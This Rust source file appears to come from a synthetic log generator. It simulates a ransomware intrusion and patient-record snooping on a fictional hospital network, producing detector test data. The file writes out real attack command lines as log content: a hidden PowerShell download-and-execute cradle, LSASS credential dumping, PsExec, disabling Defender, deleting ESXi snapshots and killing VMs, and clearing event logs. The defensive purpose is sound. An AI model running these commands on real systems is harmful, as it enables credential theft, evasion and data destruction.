//! The evening: reads the story's steps and plays each on the scene. The steps' facts stand in `story.toml`, what an act does in the logs stands here.

use std::collections::BTreeMap;
use std::io::Write;

use anyhow::{Context, Result};
use cordon_model::Time;
use serde::Deserialize;

use super::acts;
use super::clock::later;
use super::firewalls::{self, Vpn};
use super::linux;
use super::model::Host;
use super::random::Random;
use super::records::{Access, Verb};
use super::scene::{Account, Scene};
use super::suricata;
use super::web::{self, Hit};
use super::windows_other as other;
use super::windows_security as security;
use super::windows_sysmon::{self as sysmon, Run};
use super::zeek::{self, Flow, Request};
use super::{atna, fhir};

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD: (&str, &str) = ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe");
const EXPLORER: (&str, &str) = ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
const LSASS: &str = "C:\\Windows\\System32\\lsass.exe";
/// The story's file.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Story {
    pub(super) date: jiff::civil::Date,
    pub(super) step: Vec<Step>,
}

/// One step.
#[derive(Debug, Deserialize)]
pub(super) struct Step {
    pub(super) id: String,
    pub(super) story: String,
    pub(super) time: String,
    pub(super) technique: String,
    #[serde(rename = "where")]
    pub(super) places: Vec<String>,
    pub(super) who: Vec<String>,
    pub(super) text: String,
    pub(super) expected: Vec<String>,
    pub(super) evidence: Vec<Evidence>,
    #[serde(flatten)]
    act: Act,
}

/// A text that must stand in a rendered file.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Evidence {
    pub(super) file: String,
    pub(super) contains: String,
}

#[derive(Debug, Deserialize)]
struct Command {
    image: String,
    command: String,
}

/// What a step does, with its inputs.
#[derive(Debug, Deserialize)]
#[serde(tag = "act", rename_all = "snake_case")]
enum Act {
    VpnLoginRefused { account: String, address: String, count: i64 },
    VpnLogin { account: String, address: String, vpn_address: String },
    Rdp { account: String, address: String, host: String },
    DownloadCradle { account: String, host: String, address: String },
    Commands { account: String, host: String, parent: String, commands: Vec<Command> },
    LsassDump { account: String, host: String },
    Dcsync { account: String, source: String, host: String },
    Psexec { account: String, source: String, host: String },
    PacsSweep { source: String, ae_title: String, count: i64 },
    DefenderOff { account: String, host: String },
    Esxi { source: String, host: String },
    LogCleared { account: String, host: String },
    MassRename { account: String, source: String, count: i64, extension: String },
    Containment { account: String, target_account: String, source: String },
    PatientSearch { account: String, patient: String, systems: Vec<String>, host: String },
    BreakGlass { account: String, patient: String, systems: Vec<String>, host: String, reason: String },
    PrintRecord { account: String, patient: String, systems: Vec<String>, host: String },
}

impl Story {
    /// Says of every step what it is, what a detector should say of it, and whether its evidence was rendered.
    pub(super) fn report(&self, files: &BTreeMap<String, Vec<u8>>, report: &mut dyn Write) -> Result<()> {
        for step in &self.step {
            let found = step.evidence.iter().filter(|evidence| evidence.stands_in(files)).count();
            writeln!(
                report,
                "{} evidence {found}/{} expected {}",
                step.label(),
                step.evidence.len(),
                step.expected.join(" ")
            )?;
        }
        Ok(())
    }

    /// Plays all steps on a scene that stands on the story's day.
    pub(super) fn play(&self, scene: &mut Scene<'_>, seed: u64) -> Result<()> {
        for step in &self.step {
            scene.random = Random::stream(seed, &step.id, 0);
            let at = scene.at(&step.time)?;
            step.act.play(scene, at).with_context(|| format!("story step {}: {}", step.id, step.text))?;
        }
        Ok(())
    }

    /// Whether the story's hosts and accounts are the model's, and its steps in order.
    pub(super) fn check(&self, model: &super::model::Model) -> Result<()> {
        let mut last = 0;
        for step in &self.step {
            let at = super::clock::seconds_of_day(&step.time)?;
            anyhow::ensure!(at >= last, "step {} is out of order", step.id);
            last = at;
            anyhow::ensure!(
                matches!(step.story.as_str(), "ransomware" | "snooping"),
                "step {}: unknown story {}",
                step.id,
                step.story
            );
            anyhow::ensure!(
                !step.technique.is_empty() && !step.evidence.is_empty(),
                "step {} states too little",
                step.id
            );
            anyhow::ensure!(!step.expected.is_empty() || step.technique == "none", "step {} expects nothing", step.id);
            step.places.iter().try_for_each(|place| model.host(place).map(|_| ()))?;
            let vendor =
                |who: &&String| !model.network.vendors.iter().any(|vendor| vendor.account == **who) && **who != "root";
            step.who.iter().filter(vendor).try_for_each(|who| model.person(who).map(|_| ()))?;
        }
        Ok(())
    }
}

impl Act {
    fn play(&self, scene: &mut Scene<'_>, at: Time) -> Result<()> {
        match self {
            Self::VpnLoginRefused { account, address, count } => vpn_refused(scene, at, (account, address), *count),
            Self::VpnLogin { account, address, vpn_address } => {
                let flow = Flow::new(scene, address, "203.0.113.1", 443, "ssl");
                firewalls::forti_traffic(scene, later(at, -700), &flow, true);
                firewalls::forti_vpn(scene, at, account, address, (vpn_address, Vpn::Up));
                Ok(())
            }
            Self::Rdp { account, address, host } => {
                let account = scene.account(account);
                let name = if address.starts_with("10.20.99.") { "DESKTOP-7Q2KD1" } else { "JUMP01" };
                acts::remote_desktop(scene, at, &account, (address, name), scene.host(host)?)
            }
            Self::DownloadCradle { account, host, address } => download_cradle(scene, at, account, (host, address)),
            Self::Commands { account, host, parent, commands } => {
                run_commands(scene, at, (account, host), parent, commands)
            }
            Self::LsassDump { account, host } => lsass_dump(scene, at, account, host),
            Self::Dcsync { account, source, host } => dcsync(scene, at, account, (source, host)),
            Self::Psexec { account, source, host } => psexec(scene, at, account, (source, host)),
            Self::PacsSweep { source, ae_title, count } => pacs_sweep(scene, at, (source, ae_title), *count),
            Self::DefenderOff { account, host } => defender_off(scene, at, account, host),
            Self::Esxi { source, host } => esxi(scene, at, source, host),
            Self::LogCleared { account, host } => log_cleared(scene, at, account, host),
            Self::MassRename { account, source, count, extension } => {
                mass_rename(scene, at, (account, source), *count, extension)
            }
            Self::Containment { account, target_account, source } => {
                contain(scene, at, account, (target_account, source))
            }
            Self::PatientSearch { account, patient, systems, host } => {
                let patient = scene.model.patient(patient)?;
                let query = format!("Patient?family={}&given={}", patient.family, patient.given);
                let access = Access::read(account, patient, "Patient", scene.host(host)?);
                let access = Access { verb: Verb::Search, query: Some(&query), ..access };
                acts::logon(scene, later(at, -45_000), scene.model.person(account)?, access.workstation, 7)?;
                systems.iter().try_for_each(|system| acts::record(scene, at, system, &access))
            }
            Self::BreakGlass { account, patient, systems, host, reason } => {
                let access = Access::read(account, scene.model.patient(patient)?, "Patient", scene.host(host)?);
                break_glass(scene, at, systems, &Access { break_glass: Some(reason), ..access })
            }
            Self::PrintRecord { account, patient, systems, host } => {
                let (patient, from) = (scene.model.patient(patient)?, scene.host(host)?);
                let access = Access { verb: Verb::Print, ..Access::read(account, patient, "DocumentReference", from) };
                systems.iter().try_for_each(|system| acts::record(scene, at, system, &access))?;
                let server = scene.host("PRT01")?;
                other::printed(scene, later(at, 4_000), server, account, from, ("Meridian - chart summary", 14));
                Ok(())
            }
        }
    }
}

fn run(scene: &mut Scene<'_>, at: Time, host: &Host, account: Account, program: (&str, &str), parent: (&str, &str)) {
    let elevated = host.role != "workstation";
    let run = Run { elevated, ..Run::new(scene, account, program, parent) };
    sysmon::process(scene, at, host, &run);
}

fn vpn_refused(scene: &mut Scene<'_>, at: Time, (account, address): (&str, &str), count: i64) -> Result<()> {
    for number in 0..count {
        firewalls::forti_vpn(scene, later(at, number * 21_000), account, address, ("", Vpn::Refused));
    }
    Ok(())
}

fn download_cradle(scene: &mut Scene<'_>, at: Time, account: &str, (host, address): (&str, &str)) -> Result<()> {
    let (host, account) = (scene.host(host)?, scene.account(account));
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('http://{address}/u.ps1')");
    let command = format!("powershell.exe -NoP -W Hidden -Exec Bypass -C \"{script}\"");
    run(scene, at, host, account.clone(), (POWERSHELL, &command), EXPLORER);
    other::script_block(scene, later(at, 310), host, &script, "");
    sysmon::connection(scene, later(at, 420), host, (&account, POWERSHELL), (address, "-", 80));
    let flow = Flow::new(scene, &host.ip, address, 80, "http");
    let request = Request {
        host: address,
        uri: "/u.ps1",
        agent: "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.20348.2400",
        mime: "text/plain",
    };
    zeek::http(scene, later(at, 430), &flow, request);
    suricata::http(scene, later(at, 440), &flow, request);
    suricata::alert(
        scene,
        later(at, 445),
        &flow,
        (1_000_201, 1),
        "LKS POLICY PowerShell script fetched from an address without a name",
        "Potentially Bad Traffic",
    );
    acts::firewall(scene, later(at, 430), &flow, true);
    let file = "C:\\Users\\Public\\af.exe";
    sysmon::file_created(scene, later(at, 61_000), host, (&account, POWERSHELL), file);
    Ok(())
}

fn run_commands(
    scene: &mut Scene<'_>,
    at: Time,
    (account, host): (&str, &str),
    parent: &str,
    commands: &[Command],
) -> Result<()> {
    let (host, account) = (scene.host(host)?, scene.account(account));
    let mut at = at;
    for one in commands {
        let parent_command = if parent == POWERSHELL { "powershell.exe -NoP -W Hidden" } else { CMD.1 };
        run(scene, at, host, account.clone(), (&one.image, &one.command), (parent, parent_command));
        if one.image == POWERSHELL {
            let text = one.command.trim_start_matches("powershell -c ").trim_matches('"');
            other::script_block(scene, later(at, 600), host, text, "");
        }
        at = later(at, scene.random.between(11_000, 70_000));
    }
    Ok(())
}

fn lsass_dump(scene: &mut Scene<'_>, at: Time, account: &str, host: &str) -> Result<()> {
    let (host, account) = (scene.host(host)?, scene.account(account));
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    let dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\l.dmp full";
    run(scene, at, host, account.clone(), (rundll, dump), (POWERSHELL, "powershell.exe -NoP -W Hidden"));
    sysmon::image_load(scene, later(at, 60), host, (&account, rundll), "C:\\Windows\\System32\\dbgcore.dll");
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8a4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+2b4f1|C:\\Windows\\System32\\dbgcore.dll+6de5";
    sysmon::process_access(scene, later(at, 80), host, (&account, rundll), LSASS, ("0x1fffff", trace));
    sysmon::file_created(scene, later(at, 130), host, (&account, rundll), "C:\\Users\\Public\\l.dmp");
    let procdump = "C:\\Users\\Public\\pd64.exe";
    let at = later(at, 94_000);
    run(
        scene,
        at,
        host,
        account.clone(),
        (procdump, "pd64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\m.dmp"),
        CMD,
    );
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8a4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\dbgcore.dll+6de5|C:\\Users\\Public\\pd64.exe+1a2c";
    sysmon::process_access(scene, later(at, 150), host, (&account, procdump), LSASS, ("0x1fffff", trace));
    sysmon::file_created(scene, later(at, 900), host, (&account, procdump), "C:\\Users\\Public\\m.dmp");
    Ok(())
}

fn dcsync(scene: &mut Scene<'_>, at: Time, account: &str, (source, host): (&str, &str)) -> Result<()> {
    let (from, controller, account) = (scene.host(source)?, scene.host(host)?, scene.account(account));
    acts::network_logon(scene, at, &account, from, controller)?;
    security::directory_access(scene, later(at, 400), controller, &account, &security::REPLICATION);
    security::directory_access(scene, later(at, 460), controller, &account, &security::REPLICATION);
    let flow = Flow::new(scene, &from.ip, &controller.ip, 49_668, "gssapi,dce_rpc");
    acts::flow(scene, later(at, 380), &flow);
    Ok(())
}

fn psexec(scene: &mut Scene<'_>, at: Time, account: &str, (source, host): (&str, &str)) -> Result<()> {
    let (from, to, account) = (scene.host(source)?, scene.host(host)?, scene.account(account));
    let tool = ("C:\\Users\\Public\\PsExec64.exe", "PsExec64.exe -accepteula \\\\BKP01 -s cmd.exe");
    run(scene, at, from, account.clone(), tool, CMD);
    let flow = Flow::new(scene, &from.ip, &to.ip, 445, "gssapi,smb,dce_rpc");
    zeek::conn(scene, later(at, 500), &flow);
    zeek::smb_file(scene, later(at, 700), &flow, ("SMB::FILE_OPEN", "\\\\BKP01\\ADMIN$"), "PSEXESVC.exe", None);
    acts::network_logon(scene, later(at, 520), &account, from, to)?;
    security::share_access(scene, later(at, 690), to, &account, &from.ip, ("ADMIN$", "PSEXESVC.exe"));
    sysmon::file_created(scene, later(at, 720), to, (&Account::system(), "System"), "C:\\Windows\\PSEXESVC.exe");
    other::service_installed(scene, later(at, 1_100), to, ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"), "demand start");
    let service = ("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe");
    let services = ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe");
    run(scene, later(at, 1_300), to, Account::system(), service, services);
    run(scene, later(at, 1_500), to, Account::system(), (CMD.0, "cmd.exe"), service);
    Ok(())
}

fn pacs_sweep(scene: &mut Scene<'_>, at: Time, (source, title): (&str, &str), count: i64) -> Result<()> {
    let from = scene.host(source)?;
    let archive = scene.model.ae("LKS_PACS")?;
    for number in 0..count {
        let at = later(at, number * 1_900 + scene.random.between(0, 700));
        let keys =
            format!("(0008,0052)=STUDY (0010,0010)=* (0008,0020)=2026{:02}{:02}", 1 + number / 28, 1 + number % 28);
        atna::query(scene, at, (title, &from.ip), &keys)?;
        let flow = Flow::new(scene, &from.ip, &archive.ip, archive.port, "");
        acts::flow(scene, later(at, -20), &flow);
    }
    let end = later(at, count * 1_900 + 4_000);
    atna::transfer_refused(scene, end, (title, &from.ip))
}

fn defender_off(scene: &mut Scene<'_>, at: Time, account: &str, host: &str) -> Result<()> {
    let (host, account) = (scene.host(host)?, scene.account(account));
    let script = "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true";
    let command = format!("powershell.exe -c \"{script}\"");
    run(scene, at, host, account, (POWERSHELL, &command), CMD);
    other::script_block(scene, later(at, 300), host, script, "");
    let key = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring";
    let engine = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26020.3-0\\MsMpEng.exe";
    sysmon::registry(scene, later(at, 700), host, (&Account::system(), engine), (key, Some("DWORD (0x00000001)")));
    other::defender_setting(scene, later(at, 720), host, &format!("{key} = 0x0"), &format!("{key} = 0x1"));
    other::defender(scene, later(at, 900), host, 5001);
    Ok(())
}

fn esxi(scene: &mut Scene<'_>, at: Time, source: &str, host: &str) -> Result<()> {
    let (from, target) = (scene.host(source)?, scene.host(host)?);
    let host = target.name.as_str();
    let flow = Flow::new(scene, &from.ip, &target.ip, 443, "ssl");
    acts::flow(scene, at, &flow);
    let login = format!(
        "info hostd[2099341] [Originator@6876 sub=Vimsvc.ha-eventmgr opID=7c1d02] Event 4417 : User root@{} logged in as Mozilla/5.0",
        from.ip
    );
    linux::esxi(scene, at, host, (166, "Hostd"), &login);
    let enabled = "info hostd[2099341] [Originator@6876 sub=Vimsvc.ha-eventmgr opID=7c1d09] Event 4418 : SSH access has been enabled.";
    linux::esxi(scene, later(at, 8_000), host, (166, "Hostd"), enabled);
    let text = format!("Accepted keyboard-interactive/pam for root from {} port 50122 ssh2", from.ip);
    linux::esxi(scene, later(at, 26_000), host, (38, "sshd"), &text);
    let commands = [
        "esxcli system ssh set --enabled=true",
        "vim-cmd vmsvc/getallvms",
        "vim-cmd vmsvc/snapshot.removeall 15",
        "vim-cmd vmsvc/snapshot.removeall 16",
        "esxcli vm process list",
        "esxcli vm process kill --type=force --world-id=2101744",
        "esxcli vm process kill --type=force --world-id=2101801",
    ];
    for (number, command) in (0_i64..).zip(commands) {
        let at = later(at, 34_000 + number * 6_500);
        linux::esxi(scene, at, host, (14, "shell"), &format!("[root]: {command}"));
    }
    for vm in scene.model.network.virtual_machines.iter().filter(|vm| vm.hypervisor == host && vm.id > 14) {
        linux::esxi_snapshot(scene, later(at, 48_000), host, (&vm.name, vm.id), ("root", "Remove"));
        let off = format!(
            "info hostd[2099341] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 4431 : {} on {host} in ha-datacenter is powered off",
            vm.name
        );
        linux::esxi(scene, later(at, 74_000), host, (166, "Hostd"), &off);
    }
    Ok(())
}

fn log_cleared(scene: &mut Scene<'_>, at: Time, account: &str, host: &str) -> Result<()> {
    let (host, account) = (scene.host(host)?, scene.account(account));
    for (number, log) in (0_i64..).zip(["Security", "System"]) {
        let at = later(at, number * 3_000);
        let command = format!("wevtutil cl {log}");
        run(scene, at, host, account.clone(), ("C:\\Windows\\System32\\wevtutil.exe", &command), CMD);
        if log == "Security" {
            security::log_cleared(scene, later(at, 90), host, &account);
        } else {
            other::system_log_cleared(scene, later(at, 90), host, &account, log);
        }
    }
    Ok(())
}

fn mass_rename(
    scene: &mut Scene<'_>,
    at: Time,
    (account, source): (&str, &str),
    count: i64,
    extension: &str,
) -> Result<()> {
    let (from, server) = (scene.host(source)?, scene.host("FS01")?);
    let user = scene.account(account);
    security::tickets(scene, later(at, -900), &user, &from.ip, "cifs/FS01")?;
    let flow = Flow::new(scene, &from.ip, &server.ip, 445, "gssapi,smb");
    zeek::conn(scene, at, &flow);
    let note = "/srv/units/RESTORE-YOUR-FILES.txt";
    linux::samba(scene, at, (account, from), "units", ("openat", &["w", note]));
    zeek::smb_file(scene, at, &flow, ("SMB::FILE_OPEN", "\\\\FS01\\units"), "RESTORE-YOUR-FILES.txt", None);
    for number in 0..count {
        let at = later(at, 900 + number * 225);
        let unit = scene.random.pick(&scene.model.units)?.id.to_lowercase();
        let kind = *scene.random.pick(&["xlsx", "docx", "pdf", "dcm"])?;
        let name = format!("{unit}/{}-{number}.{kind}", scene.random.hex(5));
        let (old, new) = (format!("/srv/units/{name}"), format!("/srv/units/{name}.{extension}"));
        linux::samba(scene, at, (account, from), "units", ("pwrite_recv", &[&old]));
        linux::samba(scene, later(at, 60), (account, from), "units", ("renameat", &[&old, &new]));
        let windows = name.replace('/', "\\");
        let renamed = format!("{windows}.{extension}");
        zeek::smb_file(scene, later(at, 60), &flow, ("SMB::FILE_RENAME", "\\\\FS01\\units"), &renamed, Some(&windows));
    }
    Ok(())
}

fn contain(scene: &mut Scene<'_>, at: Time, account: &str, (target, source): (&str, &str)) -> Result<()> {
    let (from, server, controller) = (scene.host(source)?, scene.host("FS01")?, scene.host("DC01")?);
    let admin = scene.account(account);
    linux::ssh_session(scene, later(at, -20_000), server, account, "10.20.20.32", 12);
    linux::sudo(scene, at, server, account, &format!("/usr/bin/smbcontrol smbd kill-client-ip {}", from.ip));
    let vendor = scene.account("vendor.calder");
    security::account_change(scene, later(at, 70_000), controller, 4725, &admin, &scene.account(target));
    security::account_change(scene, later(at, 84_000), controller, 4725, &admin, &vendor);
    let vpn = ("10.20.99.41", Vpn::Down);
    firewalls::forti_vpn(scene, later(at, 130_000), "vendor.calder", "203.0.113.177", vpn);
    Ok(())
}

fn break_glass(scene: &mut Scene<'_>, at: Time, systems: &[String], access: &Access<'_>) -> Result<()> {
    for (number, name) in (0_i64..).zip(systems) {
        let at = later(at, number * 70_000);
        let system = scene.model.system(name)?;
        if system.kind == "fhir_r4" {
            fhir::r4_override(scene, later(at, -600), system, access)?;
        }
        for (place, object) in (0_i64..).zip(["Patient", "Condition", "DocumentReference"]) {
            let one = Access { object, ..*access };
            acts::record(scene, later(at, place * 17_000), name, &one)?;
            if system.kind == "openemr" {
                let path = "/openemr/interface/patient_file/summary/demographics.php";
                let agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/134.0.0.0";
                let hit = Hit {
                    client: &access.workstation.ip,
                    user: "-",
                    method: "GET",
                    path,
                    status: 200,
                    bytes: 48_211,
                    agent,
                };
                web::clinic(scene, later(at, place * 17_000), hit);
            }
        }
    }
    Ok(())
}

impl Step {
    /// What the step is, in one line.
    pub(super) fn label(&self) -> String {
        format!(
            "{} {} {} at {} by {}: {}",
            self.id,
            self.time,
            self.technique,
            self.places.join(", "),
            self.who.join(", "),
            self.text
        )
    }
}

impl Evidence {
    /// Whether the text stands in the rendered file. Evidence never stands in a packed file.
    pub(super) fn stands_in(&self, files: &BTreeMap<String, Vec<u8>>) -> bool {
        files.get(&self.file).is_some_and(|bytes| String::from_utf8_lossy(bytes).contains(&self.contains))
    }
}
